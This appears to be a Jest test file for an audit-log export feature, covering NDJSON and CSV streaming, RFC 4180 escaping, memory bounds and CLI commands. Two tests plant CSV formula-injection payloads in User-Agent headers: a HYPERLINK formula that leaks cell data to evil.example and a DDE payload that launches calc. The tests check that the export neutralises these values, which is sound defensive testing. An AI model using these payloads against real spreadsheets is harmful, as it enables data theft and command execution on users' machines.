import { get } from 'node:http';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { AuditSealer } from '../src/audit/chain/audit-sealer.service';
import { exportCommand } from '../src/audit/cli/export-command';
import { verifyCommand } from '../src/audit/cli/verify-command';
import { AppConfig } from '../src/config/app-config';
import { login, Session } from './support/factories';
import { ADMIN_EMAIL, ADMIN_PASSWORD, TestEnvironment, TestInstance } from './support/test-app';

const onPostgres = Boolean(process.env.DATABASE_URL);
const describePostgres = onPostgres ? describe : describe.skip;
const MEGABYTE = 1024 * 1024;
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;

/** A minimal RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') {
        quoted = false;
      } else {
        field += char;
      }
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else {
      field += char;
    }
  }
  return rows;
}

describe('audit export', () => {
  let env: TestEnvironment;
  let api: TestInstance;
  let admin: Session;
  const tricky = 'Ada "the first", programmer\nline two';

  beforeAll(async () => {
    env = await TestEnvironment.create();
    api = await env.start();
    admin = await login(api, { email: ADMIN_EMAIL, password: ADMIN_PASSWORD });
    await api.dataSource.query(
      `INSERT INTO audit_events (occurred_at, actor_type, actor_id, actor_display, action,
                                 resource_type, resource_id, outcome, metadata)
       VALUES ('2032-05-06T07:08:09.000001Z', 'user', 'export-actor', $1, 'widget.exported',
               'widget', 'w-1', 'success', $2),
              ('2032-05-06T07:08:09.000002Z', 'system', NULL, NULL, 'widget.exported',
               'widget', 'w-2', 'success', '{}')`,
      [tricky, JSON.stringify({ note: tricky })],
    );
  });
  afterAll(() => env.close());

  const exportOf = (query: Record<string, string>) =>
    api.http().get('/v1/audit-events/export').query(query).set(admin.auth);

  it('streams NDJSON, oldest first, one event per line in the API shape', async () => {
    const response = await exportOf({ from: '2032-05-06T00:00:00Z' }).expect(200);
    expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="audit-events.ndjson"',
    );
    const lines = response.text.trimEnd().split('\n');
    const events = lines.map((line) => JSON.parse(line) as { id: string; actor: object });
    expect(events.map((event) => event.actor)).toEqual([
      { type: 'user', id: 'export-actor', display: tricky },
      { type: 'system', id: null, display: null },
    ]);
    const one = await api
      .http()
      .get(`/v1/audit-events/${events[0].id}`)
      .set(admin.auth)
      .expect(200);
    expect(events[0]).toEqual(one.body);
  });

  it('streams CSV with a header and fields escaped per RFC 4180', async () => {
    const response = await exportOf({
      format: 'csv',
      from: '2032-05-06T07:08:09.000001Z',
      to: '2032-05-06T07:08:09.000001Z',
    }).expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [header, row, ...rest] = parseCsv(response.text);
    expect(rest).toEqual([]);
    const record = Object.fromEntries(header.map((name, index) => [name, row[index]]));
    expect(header).toEqual([
      'id',
      'seq',
      'occurredAt',
      'actorType',
      'actorId',
      'actorDisplay',
      'action',
      'resourceType',
      'resourceId',
      'outcome',
      'requestId',
      'ip',
      'userAgent',
      'changes',
      'metadata',
      'hash',
      'prevHash',
    ]);
    expect(record).toMatchObject({
      occurredAt: '2032-05-06T07:08:09.000001Z',
      actorDisplay: tricky,
      action: 'widget.exported',
      changes: '',
      metadata: JSON.stringify({ note: tricky }),
    });
  });

  it("prefixes with ' every CSV cell a spreadsheet would run, from a request’s User-Agent", async () => {
    const from = new Date().toISOString();
    const agent = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    await api
      .http()
      .post('/v1/auth/login')
      .set('user-agent', agent)
      .send({ email: 'nobody@example.com', password: 'not-the-password' })
      .expect(401);
    const response = await exportOf({ format: 'csv', from }).expect(200);
    const [header, ...rows] = parseCsv(response.text);
    const userAgents = rows.map((row) => row[header.indexOf('userAgent')]);
    expect(userAgents).toContain(`'${agent}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('refuses an unknown format, a bad date and from after to (400)', async () => {
    await exportOf({ format: 'xml' }).expect(400);
    await exportOf({ from: 'soon' }).expect(400);
    await exportOf({ from: '2032-01-02T00:00:00Z', to: '2032-01-01T00:00:00Z' }).expect(400);
  });

  it('streams a large export in bounded memory', async () => {
    const count = onPostgres ? 100_000 : 10_000;
    await api.dataSource.query(
      `INSERT INTO audit_events (occurred_at, actor_type, actor_id, action, resource_type,
                                 resource_id, outcome, user_agent, metadata)
       SELECT timestamptz '2033-01-01T00:00:00Z' + n * interval '1 millisecond', 'user',
              'bulk-actor', 'bulk.written', 'bulk', n::text, 'success', repeat('u', 200),
              jsonb_build_object('n', n, 'padding', repeat('p', 200))
         FROM generate_series(1, $1) AS n`,
      [count],
    );
    collectGarbage();
    const baseline = process.memoryUsage().rss;
    let peak = baseline;
    const url = new URL('/v1/audit-events/export', api.url);
    url.searchParams.set('from', '2033-01-01T00:00:00Z');
    const lines = await new Promise<number>((resolve, reject) => {
      get(url, { headers: admin.auth }, (response) => {
        let newlines = 0;
        let collectedAt = 0;
        response.on('data', (chunk: Buffer) => {
          for (const byte of chunk) if (byte === 10) newlines += 1;
          peak = Math.max(peak, process.memoryUsage().rss);
          // V8 defers old-space sweeps while the heap has room; collecting every 10,000 lines
          // measures what the export keeps alive rather than garbage waiting to be swept.
          if (newlines - collectedAt >= 10_000) {
            collectedAt = newlines;
            collectGarbage();
          }
        });
        response.on('end', () => resolve(newlines));
        response.on('error', reject);
      }).on('error', reject);
    });
    expect(lines).toBe(count);
    expect((peak - baseline) / MEGABYTE).toBeLessThan(100);
  });
});

describePostgres('audit ops commands, without the HTTP server', () => {
  const HOSTILE_AGENT = '@SUM(1+1)*cmd|" /C calc"!A0';
  let env: TestEnvironment;
  let api: TestInstance;
  let dataDir: string;
  let cliEnv: NodeJS.ProcessEnv;

  beforeAll(async () => {
    env = await TestEnvironment.create();
    api = await env.start();
    await login(api, { email: ADMIN_EMAIL, password: ADMIN_PASSWORD });
    await api
      .http()
      .post('/v1/auth/login')
      .set('user-agent', HOSTILE_AGENT)
      .send({ email: ADMIN_EMAIL, password: 'not-the-password' })
      .expect(401);
    await api.app.get(AuditSealer).seal();
    dataDir = await mkdtemp(join(tmpdir(), 'bastion-cli-'));
    cliEnv = {
      NODE_ENV: 'test',
      DATA_DIR: dataDir,
      DATABASE_URL: (api.dataSource.options as { url: string }).url,
      AUDIT_SIGNING_KEY: api.app.get(AppConfig).audit.signingKeyPem,
    };
  });
  afterAll(async () => {
    await env.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  function capture(): PassThrough & { text(): string } {
    const chunks: Buffer[] = [];
    const sink = new PassThrough();
    sink.on('data', (chunk: Buffer) => chunks.push(chunk));
    return Object.assign(sink, { text: () => Buffer.concat(chunks).toString() });
  }

  it('audit:verify prints the verdict and is recorded', async () => {
    const output = capture();
    const result = await verifyCommand([], cliEnv, output);
    expect(result).toMatchObject({ valid: true, firstSeq: 1 });
    expect(JSON.parse(output.text())).toEqual(result);
    const [event] = await api.dataSource.query(
      `SELECT actor_type, actor_display, metadata FROM audit_events
        WHERE action = 'audit.verified' ORDER BY occurred_at DESC LIMIT 1`,
    );
    expect(event).toMatchObject({
      actor_type: 'system',
      actor_display: expect.stringMatching(/^cli:/),
      metadata: expect.objectContaining({ via: 'cli', valid: true }),
    });
  });

  it('audit:export writes the window as NDJSON or CSV, to stdout or a file', async () => {
    const output = capture();
    await exportCommand(['--from', '2000-01-01T00:00:00Z'], cliEnv, output);
    const lines = output.text().trimEnd().split('\n');
    expect(lines.length).toBeGreaterThanOrEqual(2);
    expect(JSON.parse(lines[0])).toMatchObject({ action: 'user.created', seq: 1 });

    const file = join(dataDir, 'export.csv');
    await exportCommand(
      ['--format', 'csv', '--out', file, '--to', '2999-01-01T00:00:00Z'],
      cliEnv,
      output,
    );
    const csv = await readFile(file, 'utf8');
    expect(csv.startsWith('id,seq,occurredAt,')).toBe(true);
    const [header, ...rows] = parseCsv(csv);
    const userAgents = rows.map((row) => row[header.indexOf('userAgent')]);
    expect(userAgents).toContain(`'${HOSTILE_AGENT}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const [{ exports }] = await api.dataSource.query(
      `SELECT count(*)::int AS exports FROM audit_events WHERE action = 'audit.exported'`,
    );
    expect(exports).toBe(2);
  });

  it('refuses bad options with a message', async () => {
    const output = capture();
    await expect(exportCommand(['--format', 'xml'], cliEnv, output)).rejects.toThrow(/--format/);
    await expect(verifyCommand(['--from', 'soon'], cliEnv, output)).rejects.toThrow(/--from/);
    await expect(verifyCommand(['--nope'], cliEnv, output)).rejects.toThrow();
  });
});
